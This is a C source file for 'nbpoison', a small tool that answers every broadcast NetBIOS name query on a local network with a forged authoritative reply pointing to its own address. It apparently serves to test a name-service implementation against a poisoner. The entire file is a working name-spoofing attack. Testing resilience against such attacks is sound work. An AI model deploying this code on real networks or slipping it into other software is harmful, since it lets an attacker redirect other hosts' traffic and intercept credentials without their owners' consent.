/* nbpoison - what a poisoner does: gives its own address for every name that is asked for
 * by broadcast.  Beside a node of the same machine, which hears the broadcasts too. */
#include "wire/ns_packet.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static const char help[] = "usage: nbpoison OWN-ADDRESS BROADCAST-ADDRESS [DELAY-MS]\n";

#define FOUND (NS_R | NS_AA | NS_RD)

struct poisoner {
    ow_addr own, broadcast;
    long delay_ms;
    int listening, answering;
};

static int open_socket(ow_addr addr)
{
    struct sockaddr_in name = {.sin_family = AF_INET,
                               .sin_port = htons(NS_PORT),
                               .sin_addr.s_addr = htonl(addr)};
    int one = 1, fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    if (fd < 0)
        return -1;
    if (setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one)) == 0 &&
        bind(fd, (struct sockaddr *)&name, sizeof(name)) == 0)
        return fd;
    close(fd);
    return -1;
}

static void poison(const struct poisoner *poisoner, const struct ns_packet *query,
                   const struct sockaddr_in *asker)
{
    struct timespec delay = {.tv_sec = poisoner->delay_ms / 1000,
                             .tv_nsec = poisoner->delay_ms % 1000 * 1000000};
    struct ns_addr own = {.addr = poisoner->own};
    struct ns_build build = {.id = query->id,
                             .flags = FOUND,
                             .key = &query->question,
                             .type = NS_TYPE_NB,
                             .ttl = 165, /* as a well-known tool for this has it */
                             .addrs = &own,
                             .addr_count = 1};
    uint8_t data[NS_DATAGRAM_MAX];
    size_t len = ns_put_response(&build, data, sizeof(data));

    nanosleep(&delay, NULL);
    if (sendto(poisoner->answering, data, len, 0, (const struct sockaddr *)asker,
               sizeof(*asker)) < 0)
        fprintf(stderr, "nbpoison: %s\n", strerror(errno));
}

static void serve(const struct poisoner *poisoner)
{
    for (;;) {
        struct sockaddr_in asker;
        socklen_t room = sizeof(asker);
        uint8_t data[NS_RECEIVE_MAX];
        struct ns_packet packet;
        ssize_t len = recvfrom(poisoner->listening, data, sizeof(data), 0,
                               (struct sockaddr *)&asker, &room);

        if (len < 0 || ns_decode(data, (size_t)len, &packet) != OW_OK ||
            ns_is_response(&packet) || ns_opcode(&packet) != NS_QUERY ||
            packet.question_type != NS_TYPE_NB)
            continue;
        poison(poisoner, &packet, &asker);
    }
}

int main(int argc, char **argv)
{
    struct poisoner poisoner = {.delay_ms = argc > 3 ? strtol(argv[3], NULL, 10) : 0};

    if (argc < 3 || ow_addr_parse(argv[1], &poisoner.own) != OW_OK ||
        ow_addr_parse(argv[2], &poisoner.broadcast) != OW_OK || poisoner.delay_ms < 0) {
        fputs(help, stderr);
        return 2;
    }
    poisoner.listening = open_socket(poisoner.broadcast);
    poisoner.answering = open_socket(poisoner.own);
    if (poisoner.listening < 0 || poisoner.answering < 0) {
        fprintf(stderr, "nbpoison: %s\n", strerror(errno));
        return 3;
    }
    serve(&poisoner);
    return 0;
}
